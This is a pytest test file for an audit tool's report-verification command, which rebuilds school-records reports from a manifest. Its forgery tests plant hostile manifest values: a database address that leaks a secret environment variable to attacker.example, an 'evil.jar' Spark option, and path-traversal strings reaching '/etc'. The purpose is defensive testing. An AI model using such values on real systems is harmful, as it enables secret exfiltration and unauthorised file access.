"""``auditor verify``: a report is made again from its manifest, and what is not as it was is named."""

from __future__ import annotations

import hashlib
import json
import shutil
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import synthetic
from fuzzing import PACK

from auditor.commands import main as cli
from auditor.commands.main import main
from auditor.i18n import set_language
from auditor.reports.manifest import MANIFEST, read_manifest, relative
from auditor.reports.write import write_report

RULES = """\
- id: ours/1
  title: {zh: 每年至少四十次活动, en: at least forty activities a year}
  clause: 一
  quote: 每年至少四十次活动
  strength: must
  period: calendar_year
  count: {of: activities}
  at_least: 40
"""
WORKBOOK = next((Path(__file__).parent.parent / "data_samples" / "shandan" / "records" / "学校填报").glob("04_*.xlsx"))


@pytest.fixture(autouse=True)
def chinese(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("LANGUAGE", "zh")
    cli.speak("zh")
    yield
    cli.speak("zh")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with an audit file, records, a pack of its own, and the report of their run."""
    home = tmp_path_factory.mktemp("audit")
    (home / "记录").mkdir()
    shutil.copy(WORKBOOK, home / "记录" / "胡麻小学.xlsx")
    (home / "我们的规则").mkdir()
    (home / "我们的规则" / "pack.yaml").write_text(PACK, encoding="utf-8")
    (home / "我们的规则" / "rules.yaml").write_text(RULES, encoding="utf-8")
    (home / "audit.yaml").write_text("pack: ./我们的规则\nrecords: 记录\nas_of: 2026-03-31\noutput: 报告\n", encoding="utf-8")
    set_language("zh")
    assert main(["run", str(home / "audit.yaml"), "--format", "json", "--lang", "zh"]) == 1
    return home


@pytest.fixture
def home(made: Path, tmp_path: Path) -> Path:
    """A copy in another place: nothing in the manifest may depend on where it was made."""
    return Path(shutil.copytree(made, tmp_path / "elsewhere" / "deeper"))


def verify(home: Path, capsys: pytest.CaptureFixture[str], *more: str) -> tuple[int, str]:
    code = main(["verify", str(home / "报告"), *more, "--lang", "zh"])
    told = capsys.readouterr()
    return code, told.out + told.err


def change(home: Path, **values: Any) -> None:
    path = home / "报告" / MANIFEST
    content = json.loads(path.read_text(encoding="utf-8"))
    content["auditor_report"].update(values)
    path.write_text(json.dumps(content, ensure_ascii=False, indent=1, sort_keys=True) + "\n", encoding="utf-8")


def test_everything_is_the_same(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, told = verify(home, capsys)
    assert (code, "✗" in told) == (0, False)


def test_a_folder_of_pages_is_made_again(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["run", str(home / "audit.yaml"), "--format", "html", "--format", "schools", "--lang", "zh"]) == 1
    assert [path.suffix for path in (home / "报告" / "schools").iterdir()] == [".html"]
    capsys.readouterr()
    code, told = verify(home, capsys)
    assert (code, "✗" in told) == (0, False)


def test_a_changed_page_of_a_folder_is_named(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    main(["run", str(home / "audit.yaml"), "--format", "schools", "--lang", "zh"])
    page = next((home / "报告" / "schools").iterdir())
    page.write_text("", encoding="utf-8")
    code, told = verify(home, capsys)
    assert code == 1
    assert f"schools/{page.name}（已改动）" in told


def test_a_changed_input_is_named(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    other = next(WORKBOOK.parent.glob("07_*.xlsx"))
    shutil.copy(other, home / "记录" / "胡麻小学.xlsx")
    code, told = verify(home, capsys)
    assert code == 1
    assert "胡麻小学.xlsx（已改动）" in told
    assert "✗ 结论不相同" in told


def test_a_new_input_is_named(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    shutil.copy(WORKBOOK, home / "记录" / "又一份.xlsx")
    assert "又一份.xlsx（新增）" in verify(home, capsys)[1]


def test_a_missing_folder_of_inputs_is_told(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    shutil.rmtree(home / "记录")
    code, told = verify(home, capsys)
    assert code == 2
    assert "胡麻小学.xlsx（已不在）" in told
    assert "E904" in told


def test_a_changed_rule_file_is_named(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    changed = home / "我们的规则" / "rules.yaml"
    changed.write_text(changed.read_text(encoding="utf-8") + "# 注\n", encoding="utf-8")
    code, told = verify(home, capsys)
    assert code == 1
    assert f"{changed.name}（已改动）" in told
    assert "✓ 结论相同" in told


def test_a_changed_report_is_named(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (home / "报告" / "findings.json").write_text("{}", encoding="utf-8")
    code, told = verify(home, capsys)
    assert code == 1
    assert "findings.json（已改动）" in told


def test_another_version_is_told(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    change(home, tool_version="0.0.1")
    code, told = verify(home, capsys)
    assert code == 0, "all comes out the same, so it is proved whatever the version"
    assert "0.0.1" in told


def test_forged_findings_are_found(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    change(home, findings={"sha256": "0" * 64, "subjects": []})
    code, told = verify(home, capsys)
    assert code == 1
    assert "山丹县胡麻小学" in told


def test_a_folder_without_a_report(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["verify", str(tmp_path)]) == 2
    assert "E921" in capsys.readouterr().err


def test_a_report_made_from_python_cannot_be_made_again(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_report(synthetic.county(1), tmp_path / "out", formats=["findings.json"])
    assert main(["verify", str(tmp_path / "out")]) == 2
    assert "E922" in capsys.readouterr().err


IMPOSSIBLE = {"audit": {"as_of": "0001-01-01", "name": ""}}


@pytest.mark.parametrize("damage", [{"run": {"records": 1}}, {"audit": {"as_of": "x", "name": ""}}, {"outputs": []}, IMPOSSIBLE])
def test_a_damaged_manifest(home: Path, damage: dict[str, Any], capsys: pytest.CaptureFixture[str]) -> None:
    change(home, **damage)
    code, told = verify(home, capsys)
    assert code == 2
    assert "E923" in told


def test_a_self_check_is_verified_too(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    out = tmp_path / "报告"
    main(["self-check", str(WORKBOOK), "--pack", str(home / "我们的规则"), "--as-of", "2026-03-31", "--output", str(out)])
    capsys.readouterr()
    code, told = verify(tmp_path, capsys)
    assert code == 2, "the school's workbook lies elsewhere"
    assert "E925" in told
    assert verify(tmp_path, capsys, "--inputs", str(WORKBOOK))[0] == 0


def test_the_manifest_names_no_absolute_path(made: Path) -> None:
    text = (made / "报告" / MANIFEST).read_text(encoding="utf-8")
    assert str(made.resolve()) not in text


def test_paths_are_seen_from_the_report(tmp_path: Path) -> None:
    assert relative(tmp_path / "记录", tmp_path / "报告") == "../记录"


def test_the_manifest_lists_findings_by_school(made: Path) -> None:
    manifest = read_manifest(made / "报告")
    assert manifest is not None
    assert "山丹县胡麻小学" in [one["name"] for one in manifest["findings"]["subjects"]]


def test_a_report_that_follows_another_is_made_again_with_it(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    again = ["run", str(home / "audit.yaml"), "--since", str(home / "报告"), "--output", str(home / "下次"), "--format", "xlsx"]
    main([*again, "--lang", "zh"])
    assert main(["verify", str(home / "下次"), "--lang", "zh"]) == 0
    (home / "报告" / "findings.json").write_text((home / "报告" / "findings.json").read_text("utf-8") + " ", encoding="utf-8")
    capsys.readouterr()
    assert main(["verify", str(home / "下次"), "--lang", "zh"]) == 1
    assert "since/报告/findings.json" in capsys.readouterr().out


def test_the_former_report_is_not_replaced_by_the_one_that_follows_it(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["run", str(home / "audit.yaml"), "--since", str(home / "报告"), "--lang", "zh"]) == 2
    assert "E908" in capsys.readouterr().err


def test_one_run_writes_for_every_audience(home: Path) -> None:
    words = ["--output", str(home / "出"), "--format", "json", "--audience", "public", "--audience", "school"]
    assert main(["run", str(home / "audit.yaml"), *words, "--lang", "zh"]) == 1
    told = [json.loads(path.read_text("utf-8"))["audit"]["audience"] for path in sorted(home.glob("出*/**/findings.json"))]
    assert sorted(told) == ["bureau", "public", "school"]


# ---------------------------------------------------------------- forgeries


def said(home: Path) -> dict[str, Any]:
    content = json.loads((home / "报告" / MANIFEST).read_text(encoding="utf-8"))["auditor_report"]
    assert isinstance(content, dict)
    return content


def named_too(home: Path, name: str) -> dict[str, Any]:
    """The manifest's outputs with the file as it now is."""
    data = (home / "报告" / name).read_bytes()
    return {**said(home)["outputs"], name: {"sha256": hashlib.sha256(data).hexdigest(), "bytes": len(data)}}


def test_an_added_file_is_found(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (home / "报告" / "补充说明.html").write_text("达标", encoding="utf-8")
    code, told = verify(home, capsys)
    assert code == 1
    assert "补充说明.html（新增）" in told


def test_an_added_file_that_the_manifest_names_is_found(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (home / "报告" / "补充说明.html").write_text("达标", encoding="utf-8")
    change(home, outputs=named_too(home, "补充说明.html"))
    code, told = verify(home, capsys)
    assert code == 1
    assert "✗ 清单中有报告不会有的文件" in told


def test_a_changed_file_that_the_manifest_names_is_found(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Every 未达标 turned into 达标, and the manifest with it."""
    path = home / "报告" / "findings.json"
    path.write_text(path.read_text("utf-8").replace('"fail"', '"pass"'), encoding="utf-8")
    change(home, outputs=named_too(home, "findings.json"))
    code, told = verify(home, capsys)
    assert code == 1
    assert "✗ 重新生成的文件不相同" in told


@pytest.mark.parametrize(
    "outputs", [{}, {"../报告/findings.json": {"sha256": "0" * 64}}, {"/etc/hostname": {"sha256": "0" * 64}}], ids=str
)
def test_outputs_that_are_none_of_the_folder(home: Path, outputs: dict[str, Any], capsys: pytest.CaptureFixture[str]) -> None:
    change(home, outputs=outputs)
    code, told = verify(home, capsys)
    assert code == 2
    assert "E923" in told


def test_a_file_that_is_a_link_is_found(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    shutil.move(home / "报告" / "findings.json", home / "findings.json")
    (home / "报告" / "findings.json").symlink_to(home / "findings.json")
    assert verify(home, capsys)[0] == 1


@pytest.mark.parametrize(
    ("key", "value"),
    [("audience", "public"), ("packs", {}), ("inputs", {}), ("invented", 1)],
)
def test_a_changed_manifest_is_found(home: Path, key: str, value: Any, capsys: pytest.CaptureFixture[str]) -> None:
    change(home, **{key: value})
    code, told = verify(home, capsys)
    assert code == 1
    assert "✗ 重新生成的清单不相同" in told
    assert f"    {key}\n" in told


@pytest.mark.parametrize(
    "beside", ['{"结论": "全部达标", ', '{"auditor_report": {"结论": "全部达标"}, ', " {"], ids=["key", "twice", "blank"]
)
def test_what_is_written_into_a_manifest_beside_what_is_read_is_found(
    home: Path, beside: str, capsys: pytest.CaptureFixture[str]
) -> None:
    path = home / "报告" / MANIFEST
    path.write_text(path.read_text("utf-8").replace("{", beside, 1), encoding="utf-8")
    code, told = verify(home, capsys)
    assert code == 1
    assert "manifest.json（已改动）" in told


def test_an_empty_folder_is_found(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (home / "报告" / "全部达标").mkdir()
    code, told = verify(home, capsys)
    assert code == 1
    assert "全部达标（新增）" in told


def asked(home: Path, **values: Any) -> None:
    change(home, run={**said(home)["run"], **values})


def test_no_address_of_a_manifest_is_asked(
    home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECRET_OF_THE_CALLER", "hush")
    address = "postgresql://auditor@${SECRET_OF_THE_CALLER}.attacker.example/records"
    asked(home, records=[{"sql": address, "tables": [], "name": "", "submitted_by": "file"}])
    monkeypatch.setattr("socket.socket.connect", lambda *_: pytest.fail("something was asked"))
    code, told = verify(home, capsys)
    assert code == 2
    assert "E925" in told
    assert "hush" not in told


def test_a_store_elsewhere_and_its_options_are_not_used(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    store = {"address": "postgresql://auditor@attacker.example/records", "engine": "spark", "options": {"spark.jars": "evil.jar"}}
    asked(home, records=[], store=store)
    code, told = verify(home, capsys)
    assert code == 2
    assert "postgresql://auditor@attacker.example/records" in told
    assert "spark.jars=evil.jar" in told


@pytest.mark.parametrize("path", ["/etc", "../../../../../../../../etc", "../../elsewhere"])
@pytest.mark.parametrize("key", ["records", "waivers", "attestations", "mapping", "since", "packs"])
def test_nothing_beyond_the_reports_surroundings_is_read(
    home: Path, key: str, path: str, capsys: pytest.CaptureFixture[str]
) -> None:
    asked(home, **{key: [{"path": path, "submitted_by": "file"}] if key == "records" else [path]})
    code, told = verify(home, capsys)
    assert code == 2
    assert "E925" in told


def test_a_link_among_the_records_leads_nowhere(home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    outside = tmp_path / "outside.xlsx"
    shutil.move(home / "记录" / "胡麻小学.xlsx", outside)
    (home / "记录" / "胡麻小学.xlsx").symlink_to(outside)
    assert verify(home, capsys)[0] == 2
    assert verify(home, capsys, "--inputs", str(outside))[0] == 0


def test_what_was_packed_otherwise_holds_the_same(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """As by another version of the compression: other bytes, the same contents."""
    assert main(["run", str(home / "audit.yaml"), "--format", "xlsx", "--lang", "zh"]) == 1
    path = home / "报告" / "findings.xlsx"
    with zipfile.ZipFile(path) as old:
        members = [(member, old.read(member)) for member in old.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as new:
        for member, data in members:
            new.writestr(zipfile.ZipInfo(member.filename, member.date_time), data)
    change(home, outputs=named_too(home, "findings.xlsx"))
    capsys.readouterr()
    assert verify(home, capsys)[0] == 0


def test_other_contents_by_other_libraries_cannot_be_proved(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = home / "报告" / "findings.json"
    path.write_text(path.read_text("utf-8") + "\n", encoding="utf-8")
    change(home, outputs=named_too(home, "findings.json"), libraries={**said(home)["libraries"], "xlsxwriter": "0.0.1"})
    code, told = verify(home, capsys)
    assert code == 3
    assert "xlsxwriter 0.0.1" in told
